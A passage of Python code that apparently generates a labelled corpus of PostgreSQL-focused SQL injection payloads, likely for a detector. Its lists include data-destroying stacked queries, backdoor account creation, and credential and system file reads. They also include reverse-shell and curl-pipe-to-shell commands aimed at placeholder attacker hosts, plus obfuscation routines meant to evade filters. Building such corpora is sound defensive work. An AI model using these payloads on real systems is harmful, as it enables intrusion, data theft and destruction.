    ("error", "PostgreSQL", "PostgreSQL AND error-based - WHERE or HAVING clause", "AND [N]=CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL AND error-based - WHERE or HAVING clause (literal delimiters)", "AND [N]=CAST('[DS]'||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||'[DE]' AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL OR error-based - WHERE or HAVING clause", "OR [N]=CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL AND error-based - data extraction", "AND [N]=CAST([DSC]||(SELECT COALESCE(CAST([Q] AS VARCHAR(10000))::text,(CHR(32))))::text||[DEC] AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL error-based - Parameter replace", "(CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC))"),
    ("error", "PostgreSQL", "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", "(CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC) FROM GENERATE_SERIES(1,1))"),
    ("error", "PostgreSQL", "PostgreSQL error-based - ORDER BY or GROUP BY clause", ",(CAST([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC] AS NUMERIC))"),
    ("error", "PostgreSQL", "PostgreSQL OR error-based - data extraction (pg_user)", "OR [N]=CAST([DSC]||(SELECT COALESCE(CAST(usename AS VARCHAR(10000))::text,(CHR(32))) FROM pg_user OFFSET [K] LIMIT 1)::text||[DEC] AS NUMERIC)"),
    ("error", "MySQL", "MySQL >= 5.1 OR error-based - WHERE or HAVING clause (EXTRACTVALUE)", "OR EXTRACTVALUE([N],CONCAT(0x5c,[DSH],(SELECT (ELT([N]=[N],1))),[DEH]))"),
    ("error", "MySQL", "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (UPDATEXML)", "AND UPDATEXML([N],CONCAT(0x2e,[DSH],(SELECT (ELT([N]=[N],1))),[DEH]),[N1])"),
    ("error", "MySQL", "MySQL >= 5.0 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "OR ROW([N],[N1])>(SELECT COUNT(*),CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH],FLOOR(RAND(0)*2))x FROM (SELECT [N2] UNION SELECT [N1] UNION SELECT [N] UNION SELECT [N2])a GROUP BY x)"),
    ("error", "MySQL", "MySQL >= 5.5 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (BIGINT UNSIGNED)", "AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH],0x78))s), 8446744073709551610, 8446744073709551610)))"),
    ("error", "MySQL", "MySQL >= 5.0 error-based - Parameter replace (FLOOR)", "(SELECT [N] FROM(SELECT COUNT(*),CONCAT([DSH],(SELECT (ELT([N]=[N],1))),[DEH],FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"),
    ("error", "Microsoft SQL Server", "Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (IN)", "OR [N] IN (SELECT ([DSM]+(SELECT (CASE WHEN ([N]=[N]) THEN CHAR(49) ELSE CHAR(48) END))+[DEM]))"),
    ("error", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONCAT)", "AND [N]=CONCAT([DSM],(SELECT (CASE WHEN ([N]=[N]) THEN CHAR(49) ELSE CHAR(48) END)),[DEM])"),
    ("error", "Oracle", "Oracle OR error-based - WHERE or HAVING clause (XMLType)", "OR [N]=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||[DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) FROM DUAL)||[DEC]||CHR(62))) FROM DUAL)"),
    ("error", "Oracle", "Oracle AND error-based - WHERE or HAVING clause (DBMS_UTILITY.SQLID_TO_SQLHASH)", "AND [N]=DBMS_UTILITY.SQLID_TO_SQLHASH(([DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) FROM DUAL)||[DEC]))"),
    ("error", "Firebird", "Firebird OR error-based - WHERE or HAVING clause", "OR [N]=('[DS]'||(SELECT CASE [N] WHEN [N] THEN 1 ELSE 0 END FROM RDB$DATABASE)||'[DE]')"),
    ("error", "MonetDB", "MonetDB AND error-based - WHERE or HAVING clause", "AND [N]=('[DS]'||(SELECT CASE [N] WHEN [N] THEN CODE(49) ELSE CODE(48) END)||'[DE]')"),
    ("error", "Vertica", "Vertica AND error-based - WHERE or HAVING clause", "AND [N]=CAST('[DS]'||(SELECT (CASE WHEN ([N]=[N]) THEN BITCOUNT(BITSTRING_TO_BINARY('1')) ELSE BITCOUNT(BITSTRING_TO_BINARY('0')) END))::varchar||'[DE]' AS NUMERIC)"),
    # ---- stacked queries
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries (comment)", ";SELECT PG_SLEEP([T])--"),
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries", ";SELECT PG_SLEEP([T])"),
    ("stacked", "PostgreSQL", "PostgreSQL stacked queries (heavy query)", ";SELECT COUNT(*) FROM GENERATE_SERIES(1,[H])"),
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries (conditional - comment)", ";SELECT (CASE WHEN ([N]=[N]) THEN (SELECT [N] FROM PG_SLEEP([T])) ELSE [N] END)--"),
    ("stacked", "PostgreSQL", "PostgreSQL takeover - output table (--os-cmd)", ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text);COPY sqlmapoutput(data) FROM PROGRAM 'id';--"),
    ("stacked", "PostgreSQL", "PostgreSQL takeover - file read (--file-read)", ";CREATE TABLE sqlmapfile(data text);SELECT lo_import('/etc/passwd',[N]);--"),
    ("stacked", "PostgreSQL", "PostgreSQL takeover - UDF (sys_eval)", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libsqlmap[S].so','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE;--"),
    ("stacked", "MySQL", "MySQL >= 5.0.12 stacked queries", ";SELECT SLEEP([T])"),
    ("stacked", "MySQL", "MySQL >= 5.0.12 stacked queries (query SLEEP)", ";(SELECT * FROM (SELECT(SLEEP([T])))[S])#"),
    ("stacked", "Microsoft SQL Server", "Microsoft SQL Server/Sybase stacked queries", ";WAITFOR DELAY '0:0:[T]'"),
    ("stacked", "Microsoft SQL Server", "Microsoft SQL Server/Sybase stacked queries (xp_cmdshell)", ";EXEC master..xp_cmdshell 'ping -n [T] 127.0.0.1'--"),
    ("stacked", "Oracle", "Oracle stacked queries (USER_LOCK.SLEEP - comment)", ";BEGIN USER_LOCK.SLEEP([T]); END--"),
    ("stacked", "SQLite", "SQLite > 2.0 stacked queries (heavy query)", ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("stacked", "IBM DB2", "IBM DB2 stacked queries (heavy query - comment)", ";SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3--"),
    # ---- inline queries
    ("inline", "PostgreSQL", "PostgreSQL inline queries", "(SELECT [DSC]||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))::text||[DEC])"),
    ("inline", "PostgreSQL", "PostgreSQL inline queries (data extraction)", "(SELECT [DSC]||COALESCE(CAST([Q] AS VARCHAR(10000))::text,(CHR(32)))||[DEC])"),
    ("inline", "MySQL", "MySQL inline queries", "(SELECT CONCAT([DSH],(ELT([N]=[N],1)),[DEH]))"),
    ("inline", "Microsoft SQL Server", "Microsoft SQL Server/Sybase inline queries", "(SELECT [DSM]+(CASE WHEN ([N]=[N]) THEN CHAR(49) ELSE CHAR(48) END)+[DEM])"),
    ("inline", "Oracle", "Oracle inline queries", "(SELECT [DSC]||(CASE WHEN [N]=[N] THEN 1 ELSE 0 END)||[DEC] FROM DUAL)"),
    ("inline", "SQLite", "SQLite inline queries", "SELECT '[DS]'||(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END))||'[DE]'"),
    ("inline", "IBM DB2", "IBM DB2 inline queries", "(SELECT '[DS]'||(CASE WHEN [N]=[N] THEN 1 ELSE 0 END)||'[DE]' FROM SYSIBM.SYSDUMMY1)"),
]
SQLMAP_FAMILY = {"boolean": "sqlmap_boolean_blind", "time": "sqlmap_time_blind", "error": "sqlmap_error_based",
                 "stacked": "sqlmap_stacked_queries", "inline": "sqlmap_inline_query", "union": "sqlmap_union_query"}


def instantiate(vec, orig):
    return subst(vec.replace("[V]", orig).replace("[Q]", R.choice(PG_QUERIES)))


def union_vector(dbms):
    ncols = R.randint(1, 10)
    ds, de = marker(), marker()
    style = R.random()
    if dbms == "PostgreSQL":
        if style < 0.4:
            mark = f"{pg_chr(ds)}||{pg_chr(rmix(R.choice([8, 16, 30])))}||{pg_chr(de)}"
        elif style < 0.8:
            mark = f"{pg_chr(ds)}||COALESCE(CAST({R.choice(PG_QUERIES)} AS VARCHAR(10000))::text,(CHR(32)))||{pg_chr(de)}"
        else:
            mark = f"'{ds}'||'{rmix(12)}'||'{de}'"
        filler = R.choice(["NULL", "NULL", "NULL::text", "NULL::int"])
    elif dbms == "MySQL":
        mark, filler = f"CONCAT({my_hex(ds)},{my_hex(rmix(10))},{my_hex(de)})", "NULL"
    elif dbms == "Microsoft SQL Server":
        mark, filler = f"{ms_char(ds)}+{ms_char(rmix(6))}+{ms_char(de)}", "NULL"
    elif dbms == "random":
        mark, filler = rnum(), rnum()
    else:
        mark, filler = f"{pg_chr(ds)}||{pg_chr(rmix(6))}||{pg_chr(de)}", "NULL"
    cols = [filler if dbms != "random" else rnum() for _ in range(ncols)]
    if R.random() < 0.85:
        cols[R.randrange(ncols)] = mark
    op = R.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
    v = f"{op} {','.join(cols)}"
    if dbms == "Oracle":
        v += " FROM DUAL"
    return v


def order_probe():
    return "ORDER BY " + str(R.choice([1, 2, 4, 6, 8, 11, 13, 16, R.randint(2000, 9999)]))


# ---------------------------------------------------------------------------
# Boundaries (sqlmap-like prefix/suffix pairs)
# ---------------------------------------------------------------------------
COMMENTS = ["-- ", "-- -", "--", "--+", "-- [S]", "/*", "#", ";--", "-- '"]
WRONG_CLOSES = ["'", "')", "'))", "\"", "%'", "`", "')))", "'\")", "\\'", "'}"]


def comment(dbms):
    if dbms == "MySQL" and R.random() < 0.5:
        return "#"
    if dbms == "Microsoft SQL Server" and R.random() < 0.3:
        return "--"
    return subst(R.choice(COMMENTS))


def orig_value(t, slot, kind):
    if kind in ("num", "numlist"):
        return R.choice(["1", "5", "12", "300", "8812", "2"])
    if kind == "col":
        return R.choice(["id", "1", "sent_at", "region"])
    if kind == "dir":
        return R.choice(["ASC", "DESC"])
    if slot in t["vals"]:
        vals = [v for v in t["vals"][slot][1] if "'" not in v and "\\" not in v and "$" not in v and len(v) < 25]
        if vals and R.random() < 0.6:
            return R.choice(vals)
    return R.choice(["1", "test", "admin", "abc", "foo", "x"])


def str_boundary(t, slot):
    """(close, suffix) for a quoted slot; suffix None means: end with a comment."""
    right = close_of(t, slot)
    close = right if R.random() < 0.78 else R.choice(WRONG_CLOSES)
    r = R.random()
    if r < 0.45:
        return close, None
    if close == right and reopen_of(t, slot) and r < 0.85:
        return close, reopen_of(t, slot).replace("'z'='z", "'[S]'='[S]").replace("'z%'='z", "'[S]%'='[S]")
    if close.startswith("'") or close.startswith("%'"):
        opens = close.count(")")
        if t["like"] and R.random() < 0.5:
            return close, " AND " + "(" * opens + "'[S]%'='[S]"
        return close, " AND " + "(" * opens + "'[S]'='[S]"
    return close, None


def sqlmap_attack(t, slot, kind, tech, dbms, vec):
    """Attack input (unescaped) for one slot, or None if the vector does not fit."""
    orig = orig_value(t, slot, kind)
    replaces = vec.startswith("(") or vec.startswith("SELECT") or vec.startswith("MAKE_SET")
    order = vec.startswith(",")
    stacked = vec.startswith(";")
    body = vec if tech == "union" else instantiate(vec, orig if kind in ("num", "numlist", "col") else "1")
    if kind in ("col", "dir"):
        if order or stacked:
            return orig + body
        if replaces:
            return body if kind == "col" else orig + "," + body
        tail = " " + comment(dbms) if (tech == "union" or R.random() < 0.5) else ""
        return f"{orig} {body}{tail}"
    if order:
        return None
    if kind in ("num", "numlist"):
        if replaces:
            return body
        if vec.startswith("OR") and R.random() < 0.6:
            orig = "-" + rnum()
        close = close_of(t, slot) if ("'" not in close_of(t, slot) and '"' not in close_of(t, slot)) else ""
        close = close if R.random() < 0.5 else ""
        if stacked:
            return orig + close + body
        r = R.random()
        if r < 0.08:  # sqlmap's "AS" boundary
            return subst(f"{orig}{close} AS [S] WHERE [N]=[N] {body}-- ")
        if close and reopen_of(t, slot) and r < 0.5:
            return f"{orig}{close} {body}" + subst(reopen_of(t, slot).replace("1=1", "[N]=[N]"))
        if r < 0.6 and tech != "union":
            return f"{orig}{close} {body}"
        return f"{orig}{close} {body} {comment(dbms)}"
    if kind == "dollar":
        return None
    if kind == "ident":
        close = '"' if R.random() < 0.8 else R.choice(["'", "\")", "`"])
        if stacked:
            return orig + close + body
        return f"{orig}{close} {body} {comment(dbms)}" if not replaces else f"{orig}{close}||{body}||{close}"
    # quoted string slots
    if replaces:
        if tech in ("inline", "error", "boolean", "time") and R.random() < 0.7:
            if dbms == "Microsoft SQL Server":
                return f"{orig}'+{body}+'"
            if dbms == "MySQL" and R.random() < 0.5:
                return subst(f"{orig}' AND {body} AND '[S]'='[S]")
            return f"{orig}'||{body}||'"
        return body
    if vec.startswith("OR") and R.random() < 0.5:
        orig = "-" + rnum() if R.random() < 0.5 else orig + rstr(3)
    close, suffix = str_boundary(t, slot)
    if stacked:
        return orig + close + body
    if tech == "union" or suffix is None:
        return f"{orig}{close} {body} {comment(dbms)}"
    return subst(f"{orig}{close} {body}{suffix}")


# ---------------------------------------------------------------------------
# Hand-written PostgreSQL attack cores (fresh for this corpus).  A core
# follows a closed slot; the boundary adds a tail.
# ---------------------------------------------------------------------------
HAND = {
    "tautology": [
        "OR 'k2'='k2'", "OR 6>2", "OR 'a' IS NOT NULL", "OR 7=7::int", "OR 'abc' LIKE '%'", "OR 'q' ~ 'q'",
        "OR 2-1=1", "OR NOT 3=4", "OR ascii('a')=97", "OR 'Z'=upper('z')", "OR 7 IN (SELECT 7)", "OR true IS TRUE",
        "OR 'ab'=concat('a','b')", "OR 0<1::smallint", "OR position('b' in 'abc')>0", "OR now()>'2000-01-01'",
        "OR 1=ALL(ARRAY[1])", "OR 'x' IN ('x','y')", "OR int4range(1,5) @> 2", "OR '{1,2}'::int[] @> '{1}'",
        "OR 3 IS DISTINCT FROM 4", "OR 'on'::bool", "OR 8 NOT BETWEEN 1 AND 2", "OR (2,3)=(2,3)", "OR 1=1",
        "OR 'b'>'a'", "OR exists(VALUES (1))", "OR char_length('')=0", "OR pi()>3", "OR 'A' ILIKE 'a'",
        "OR '1'='1'", "OR 5 % 2 = 1", "OR NULL IS NULL", "OR 't'", "OR md5('')=md5('')",
    ],
    "union": [
        "UNION SELECT usename, usesuper::text FROM pg_user", "UNION ALL SELECT schemaname, tablename FROM pg_tables WHERE schemaname NOT LIKE 'pg%'",
        "UNION SELECT rolname, rolcanlogin::text FROM pg_roles", "UNION ALL SELECT NULL, current_setting('hba_file')",
        "UNION SELECT attname, atttypid::regtype::text FROM pg_attribute WHERE attrelid='hr.employees'::regclass",
        "UNION SELECT email, pw_hash FROM hr.staff_logins", "UNION ALL SELECT 1, 2, 3, 4", "UNION SELECT NULL, NULL, NULL",
        "UNION SELECT nspname, nspowner::text FROM pg_namespace", "UNION ALL SELECT name, setting FROM pg_settings",
        "UNION SELECT lanname, lanpltrusted::text FROM pg_language", "UNION SELECT srvname, srvoptions::text FROM pg_foreign_server",
        "UNION ALL SELECT client_addr::text, query FROM pg_stat_activity", "UNION SELECT extname, extversion FROM pg_extension",
        "UNION SELECT token_hash, user_id::text FROM auth_sessions", "UNION (SELECT 'a', pg_read_file('PG_VERSION'))",
    ],
    "stacked": [
        "; DROP TABLE hr.employees", "; DELETE FROM billing.invoices WHERE true", "; UPDATE game_accounts SET clan_id = 1 WHERE true",
        "; INSERT INTO hr.staff_logins(email, pw_hash, is_manager) VALUES ('x@evil.example', crypt('x', gen_salt('bf')), true)",
        "; ALTER ROLE app_user CREATEROLE", "; CREATE USER backdoor WITH PASSWORD 'p4ss' SUPERUSER", "; TRUNCATE iot.readings",
        "; SET SESSION AUTHORIZATION postgres", "; DROP SCHEMA billing CASCADE", "; SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
        "; ALTER SYSTEM SET shared_preload_libraries = 'evil'", "; GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC",
        "; CREATE TABLE exfil AS SELECT * FROM ehr.patients", "; ROLLBACK; DROP TABLE cms_pages", "; ABORT; DELETE FROM chat.messages",
        "; ALTER TABLE billing.payments DROP COLUMN amount_cents", "; REASSIGN OWNED BY app_user TO mallory",
        "; SELECT pg_rotate_logfile()", "; LOCK TABLE billing.invoices IN ACCESS EXCLUSIVE MODE", "; DISCARD ALL; SET ROLE postgres",
        "; CREATE TRIGGER t BEFORE INSERT ON hr.employees FOR EACH ROW EXECUTE FUNCTION evil()", "; COMMENT ON TABLE hr.employees IS 'owned'",
    ],
    "time_pg_sleep": [
        "AND (SELECT 1 FROM pg_sleep(7))=1", "AND 'a'=(SELECT 'a' FROM pg_sleep(4))", "OR pg_sleep(0.5*10) IS NULL",
        "AND (SELECT pg_sleep_for(interval '3 seconds')) IS NULL", "AND pg_sleep(least(5, 9)) IS NULL",
        "AND 1=(SELECT CASE WHEN (SELECT usesuper FROM pg_user WHERE usename=current_user) THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)",
        "AND (SELECT count(*) FROM pg_sleep(4), generate_series(1,1))=1", "; SELECT pg_sleep(12)", "; SELECT pg_catalog.pg_sleep_until(clock_timestamp() + '5s')",
        "AND 1=(SELECT count(*) FROM generate_series(1,20000000))", "AND (SELECT sum(g) FROM generate_series(1,9000000) g)>0",
        "AND (SELECT count(*) FROM generate_series(1,4000) a, generate_series(1,4000) b)>0", "AND md5(repeat('x', 90000000)) IS NOT NULL",
        "OR (SELECT count(*) FROM pg_class a, pg_class b, pg_class c)>0", "AND length(pg_sleep(3)::text) IS NULL",
        "AND EXISTS(SELECT 1 FROM pg_sleep(5) WHERE ascii(substr(current_user,1,1))>100)",
    ],
    "boolean_blind": [
        "AND substr(version(),1,10)='PostgreSQL'", "AND (SELECT count(*) FROM pg_roles WHERE rolsuper)>1", "AND ascii(substr(current_database(),1,1))>109",
        "AND current_setting('server_version_num')::int>=150000", "AND inet_server_addr() IS NOT NULL", "AND inet_server_port()=5432",
        "AND has_table_privilege('pg_authid','SELECT')", "AND (SELECT usecreatedb FROM pg_user WHERE usename=current_user)",
        "AND EXISTS(SELECT 1 FROM pg_namespace WHERE nspname='billing')", "AND (SELECT count(*) FROM pg_extension WHERE extname='dblink')=1",
        "AND length(current_user)=8", "AND current_setting('ssl')='off'", "AND pg_is_in_recovery()=false",
        "AND (SELECT setting FROM pg_settings WHERE name='listen_addresses')='*'", "AND split_part(version(),' ',2) LIKE '15%'",
        "AND (SELECT count(*) FROM information_schema.columns WHERE table_name='staff_logins')>3", "AND txid_current()>0",
        "AND (SELECT substring(pw_hash,1,1) FROM hr.staff_logins LIMIT 1)='$'", "AND pg_postmaster_start_time()<now()",
    ],
    "error_cast": [
        "AND 1=CAST(version() AS numeric)", "AND 7=(SELECT current_database())::integer", "AND 0=current_setting('config_file')::int",
        "AND 1=('#'||(SELECT string_agg(rolname, ',') FROM pg_roles))::bigint", "AND 1=CAST(inet_server_addr() AS text)::int",
        "AND 1=(SELECT table_to_xml('hr.staff_logins', true, false, ''))::text::int", "AND 1=CAST(pg_ls_dir('.') AS int)",
        "AND 1=CAST((SELECT datname FROM pg_database OFFSET 1 LIMIT 1) AS int)", "AND 1=int8(session_user)",
        "AND 1=(SELECT email FROM hr.staff_logins LIMIT 1)::int", "AND 1=(SELECT 1/0 WHERE current_user='postgres')",
        "AND 1=xmlparse(content '<' || current_user)::text::int", "AND 1=jsonb_build_object('u', current_user)::text::int",
        "AND 1=CAST(to_char(now(), current_user) AS int)", "AND 1=(SELECT relname FROM pg_class WHERE relkind='r' LIMIT 1)::regclass::oid::int / 0",
        "AND 1=cast(chr(58)||current_schema() as date)",
    ],
    "oob_file_program": [
        "; COPY (SELECT version()) TO PROGRAM 'wget -q -O- http://c2.attacker.example/?v=$(id -u)'", "; COPY hr.employees FROM PROGRAM 'nc -e /bin/sh 203.0.113.66 9001'",
        "; COPY (SELECT email, pw_hash FROM hr.staff_logins) TO '/tmp/creds.csv' CSV", "; COPY billing.invoices TO '/var/www/static/inv.txt'",
        "; SELECT lo_import('/root/.bash_history', 31337)", "; SELECT lo_export(31337, '/etc/cron.d/x')",
        "AND pg_read_file('/etc/hosts', 0, 100) <> ''", "UNION SELECT pg_read_file('pg_hba.conf'), NULL",
        "AND (SELECT count(*) FROM pg_ls_dir('/home')) > 0", "; SELECT pg_ls_logdir()", "AND pg_stat_file('/etc/shadow') IS NOT NULL",
        "; SELECT dblink_connect('host=198.51.100.77 port=5432 user=loot password=loot dbname=loot')",
        "; SELECT dblink_send_query('leak', 'SELECT 1')", "; CREATE EXTENSION dblink; SELECT * FROM dblink('host=exfil.example user=u', 'SELECT 1') AS x(i int)",
        "; COPY (SELECT '') TO PROGRAM 'bash -c \"curl evil.example | sh\"'", "; SELECT pg_read_binary_file('/var/lib/postgresql/.pgpass')",
        "; CREATE TABLE t_out(x text); COPY t_out FROM PROGRAM 'uname -a'; SELECT * FROM t_out",
        "; SELECT lo_create(0); SELECT lo_put(0, 0, decode('7f454c46', 'hex'))", "; SELECT lowrite(lo_open(0, 131072), 'x')",
        "; SELECT pg_file_write('/tmp/x.sh', 'id', false)", "; ALTER SYSTEM SET ssl_passphrase_command = 'sh /tmp/x.sh'",
    ],
    "plpgsql_do_exec": [
        "; DO $$ BEGIN PERFORM pg_sleep(6); END $$", "; DO $z$ BEGIN EXECUTE 'DROP TABLE ' || 'hr.employees'; END $z$",
        "; DO 'BEGIN EXECUTE ''ALTER ROLE app_user SUPERUSER''; END'", "; DO LANGUAGE plpgsql $$ BEGIN RAISE NOTICE '%', (SELECT string_agg(usename, ',') FROM pg_user); END $$",
        "; DO $$ DECLARE t text; BEGIN FOR t IN SELECT table_name FROM information_schema.tables WHERE table_schema='billing' LOOP EXECUTE format('TRUNCATE %I', t); END LOOP; END $$",
        "; DO E'BEGIN PERFORM pg_sleep(5); END'", "; DO $$ BEGIN EXECUTE chr(68)||chr(82)||chr(79)||chr(80)||' TABLE cms_pages'; END $$",
        "; CREATE FUNCTION f_evil() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_sleep(1); RETURN NEW; END $$",
        "; DO $do$ BEGIN EXECUTE convert_from(decode('VFJVTkNBVEUgaXJvdC5yZWFkaW5ncw==','base64'),'SQL_ASCII'); END $do$",
        "; CREATE OR REPLACE FUNCTION pg_temp.x() RETURNS int LANGUAGE sql AS $$ SELECT 1 FROM pg_sleep(5) $$; SELECT pg_temp.x()",
        "; DO $$ BEGIN IF (SELECT rolsuper FROM pg_roles WHERE rolname=current_user) THEN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END IF; END $$",
    ],
    "dollar_quote": [
        "OR $$x$$=$$x$$", "UNION SELECT $a$1$a$, $a$2$a$", "AND version() LIKE $$%PostgreSQL%$$", "; SELECT $s$ $s$ || pg_sleep(5)",
        "OR $tag$abc$tag$ ILIKE $tag$A%$tag$", "; COPY (SELECT 1) TO $f$/tmp/out$f$", "AND 1=CAST($$~$$||current_user AS int)",
        "; DELETE FROM cms_pages WHERE path <> $$/$$", "OR length($_$yes$_$)=3",
    ],
    "e_escape": [
        "OR E'\\x41'='A'", "AND session_user=E'\\x70\\x6fstgres'", "UNION SELECT E'\\164able', NULL", "AND 1=CAST(E'\\x3a'||current_user AS int)",
        "; COPY (SELECT 1) TO PROGRAM E'\\x77\\x68oami'", "OR E'\\'' = E'\\''", "AND pg_read_file(E'\\x2fetc\\x2fhosts') IS NOT NULL",
        "OR U&'\\0031'=U&'\\0031'", "AND current_user=U&'p\\006fstgres'", "OR U&'#0078' UESCAPE '#'='x'", "; SELECT U&'\\+000061'",
        "UNION SELECT U&\"\\0075sename\", NULL FROM pg_user", "OR E'\\u0031'='1'",
    ],
    "obf_chr_concat": [
        "OR CHR(49)=CHR(49)", "AND current_database()=CHR(97)||CHR(112)||CHR(112)", "; SELECT CHR(68)||CHR(82)||CHR(79)||CHR(80)",
        "AND 1=CAST(CHR(58)||version() AS int)", "UNION SELECT CHR(35)||rolname, NULL FROM pg_roles",
        "OR convert_from(decode('74727565','hex'),'UTF8')='true'", "AND current_user=convert_from(decode('cG9zdGdyZXM=','base64'),'UTF8')",
        "; COPY (SELECT 1) TO PROGRAM convert_from('\\x6964'::bytea, 'UTF8')",
    ],
}

CONCAT = [  # breakouts that concatenate a subquery into a string slot
    ("string_concat_subquery", "'||(SELECT pw_hash FROM hr.staff_logins LIMIT 1)||'"), ("string_concat_subquery", "'||current_setting('data_directory')||'"),
    ("string_concat_subquery", "'||(SELECT string_agg(rolname, ';') FROM pg_roles)||'"), ("string_concat_subquery", "'||inet_server_port()||'"),
    ("string_concat_subquery", "'||(SELECT usename FROM pg_user LIMIT 1 OFFSET 1)||'"), ("string_concat_subquery", "'||version()||'"),
    ("string_concat_subquery", "'||CHR(126)||current_database()||'"), ("string_concat_subquery", "'||(SELECT count(*) FROM pg_tables)::text||'"),
    ("string_concat_subquery", "'||to_hex(pg_backend_pid())||'"), ("time_pg_sleep", "'||(SELECT 'x' FROM pg_sleep(6))||'"),
    ("oob_file_program", "'||pg_read_file('/etc/passwd', 0, 64)||'"), ("string_concat_subquery", "'||(SELECT setting FROM pg_settings WHERE name='port')||'"),
]
NUM_EXPR = [  # a number slot replaced by an expression or subquery
    ("string_concat_subquery", "(SELECT max(id) FROM hr.staff_logins)"), ("string_concat_subquery", "length(version())"),
    ("string_concat_subquery", "ascii(substr(current_user,1,1))"), ("string_concat_subquery", "(SELECT count(*) FROM pg_stat_activity)"),
    ("string_concat_subquery", "pg_backend_pid()"), ("time_pg_sleep", "1-(SELECT 0 FROM pg_sleep(3))"), ("time_pg_sleep", "(SELECT 2 FROM pg_sleep(5))"),
    ("error_cast", "(SELECT version()::int)"), ("error_cast", "current_setting('port')::int/0"), ("boolean_blind", "(CASE WHEN (SELECT rolsuper FROM pg_roles WHERE rolname=current_user) THEN 1 ELSE 2 END)"),
    ("tautology", "5 OR 2>1"), ("tautology", "-1 OR true"), ("stacked", "1; DROP TABLE iot.devices"), ("union", "1 UNION SELECT 1"),
    ("boolean_blind", "(SELECT 1 WHERE current_user='postgres')"),
]

OBF_BASES = [  # (technique, core) used for the obf_* families
    ("tautology", "OR 'k2'='k2'"), ("union", "UNION SELECT usename, usesuper::text FROM pg_user"), ("time_pg_sleep", "AND 1=(SELECT 1 FROM PG_SLEEP(6))"),
    ("stacked", "; DROP TABLE hr.employees"), ("oob_file_program", "; COPY (SELECT 1) TO PROGRAM 'id'"), ("error_cast", "AND 1=CAST(version() AS numeric)"),
    ("boolean_blind", "AND ascii(substr(current_user,1,1))>100"), ("union", "UNION ALL SELECT table_name, column_name FROM information_schema.columns"),
    ("stacked", "; UPDATE hr.staff_logins SET is_manager=true"), ("sqlmap", "AND 6612=(SELECT 6612 FROM PG_SLEEP(5))"),
    ("tautology", "OR 2>1"), ("oob_file_program", "; SELECT lo_import('/etc/passwd')"),
]

KEYWORDS = {"UNION", "SELECT", "DROP", "TABLE", "SLEEP", "PG_SLEEP", "CAST", "UPDATE", "COPY", "PROGRAM", "FROM", "ASCII", "SUBSTR", "LO_IMPORT"}


def _map(core, fn):
    return "".join(fn(k, core[a:b]) for k, a, b in lex(core))


def obf_case(core):
    return _map(core, lambda k, w: "".join(c.swapcase() if R.random() < 0.5 else c for c in w) if k == "word" else w)


def obf_inline(core):
    def f(k, w):
        if k == "ws":
            return R.choice(["/**/", "/*!*/", " /* x */ ", "/*/**/*/", "/*\t*/", "/*" + rstr(3) + "*/"])
        if k == "word" and len(w) >= 4 and w.upper() in KEYWORDS and R.random() < 0.5:
            cut = R.randint(1, len(w) - 1)
            return w[:cut] + "/**/" + w[cut:]
        return w
    return _map(core, f)


def obf_ws(core):
    return _map(core, lambda k, w: R.choice(["\t", "\n", "\r", "\f", "\r\n\t", " \f ", "\n\n", "\t \t"]) if k == "ws" else w)


def obf_nospace(core):
    toks = lex(core)
    out = []
    for i, (k, a, b) in enumerate(toks):
        if k != "ws":
            out.append(core[a:b])
            continue
        prev = toks[i - 1][0] if i else None
        nxt = toks[i + 1][0] if i + 1 < len(toks) else None
        if prev in ("word", "num") and nxt in ("word", "num"):
            out.append(R.choice(["/**/", "/**/", "\t", "\n"]))
        else:
            out.append("")
    return "".join(out)


OBFS = {"obf_case_mix": obf_case, "obf_inline_comment": obf_inline, "obf_whitespace": obf_ws, "obf_nospace": obf_nospace}


# ---------------------------------------------------------------------------
